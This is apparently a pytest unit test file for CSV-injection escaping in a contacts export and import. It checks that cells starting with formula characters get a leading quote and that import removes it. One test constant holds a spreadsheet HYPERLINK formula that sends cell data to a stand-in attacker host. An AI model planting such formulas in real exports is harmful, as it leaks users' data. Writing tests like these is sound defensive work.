"""CSV injection: every text cell an export writes that a spreadsheet would run as a formula
is escaped (OWASP: a leading quote), in every column, custom fields included; numbers the
system stored as numbers stay numbers; the import takes the escape off again."""

from __future__ import annotations

import csv
import io

import pytest

from contacts.exports.models import FIXED_COLUMNS
from contacts.exports.usecases import csv_row
from contacts.imports.models import escape_cell, read_rows, unescape_cell
from services.contacts.tests.unit.records.fakes import a_contact

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"x")'
# The columns whose text a user or a partner chooses (the others are ids, enums, times, and
# an ISO country code).
TEXT_COLUMNS = ("first_name", "last_name", "owner_id", "company_id", "region", "city", "custom.note")


def _contact(value: str) -> list[str]:
    contact = a_contact(
        first_name=value,
        last_name=value,
        owner_id=value,
        company_id=value,
        address={"region": value, "city": value},
        custom_fields={"note": value},
    )
    return csv_row(contact, TEXT_COLUMNS)


@pytest.mark.parametrize("lead", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_starting_with_a_formula_character_is_escaped_in_every_column(lead: str) -> None:
    # Given a contact whose every text field (a custom one too) starts with the character
    value = lead + PAYLOAD
    # When it is written as a CSV row
    row = _contact(value)
    # Then no cell starts with a formula character: each is the value behind a single quote
    # (an address field is stored stripped of a leading tab or CR: nothing to escape there)
    assert [c for c in row if c[:1] in TRIGGERS] == []
    assert all(c in ("'" + value, value.strip()) for c in row), row
    assert row[0] == row[-1] == "'" + value  # first_name, custom.note


def test_a_phone_is_escaped_and_plain_text_is_not() -> None:
    contact = a_contact(phone="+14155550100", custom_fields={"note": "call after 5"})
    assert csv_row(contact, ["phone", "first_name", "custom.note"]) == ["'+14155550100", "Ada", "call after 5"]


def test_every_fixed_column_goes_through_the_escape() -> None:
    # Given a contact with a formula in every free-text field the fixed columns show
    contact = a_contact(
        first_name="=1+1",
        last_name="@SUM(A1)",
        phone="+14155550100",
        owner_id="-2+3",
        company_id="=x",
        address={"country": "GB", "region": "+r", "city": "-c"},
    )
    # When every fixed column is written
    row = dict(zip(FIXED_COLUMNS, csv_row(contact, FIXED_COLUMNS), strict=True))
    # Then none of its cells starts with a formula character
    assert [c for c, v in row.items() if v[:1] in TRIGGERS] == []
    assert row["first_name"] == "'=1+1" and row["city"] == "'-c"


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_escaped() -> None:
    # A number custom field of -5 is a number for the spreadsheet (and for the import); the
    # same characters stored as text are text, escaped like any other.
    contact = a_contact(custom_fields={"score": -5, "ratio": -0.5, "code": "-5", "flag": True})
    columns = ["custom.score", "custom.ratio", "custom.code", "custom.flag"]
    assert csv_row(contact, columns) == ["-5", "-0.5", "'-5", "true"]


@pytest.mark.parametrize(
    "value", ["=1+1", "+33142685300", "-x", "@x", "\tx", "\rx", "'=already", "''-two", "'plain", "'", "", "plain"]
)
def test_the_escape_is_reversible(value: str) -> None:
    assert unescape_cell(escape_cell(value)) == value


def test_an_escaped_file_imports_back_as_the_values_written() -> None:
    # Given a file whose cells were escaped by an export (quoted by the csv module as needed)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["email", "phone", "custom.note"])
    writer.writerow(["ada@example.com", escape_cell("+14155550100"), escape_cell("=1+1")])
    # When the import reads it, then it reads the values, not the escapes
    [(number, row)] = list(read_rows(buffer.getvalue().encode()))
    assert (number, row) == (1, {"email": "ada@example.com", "phone": "+14155550100", "custom.note": "=1+1"})
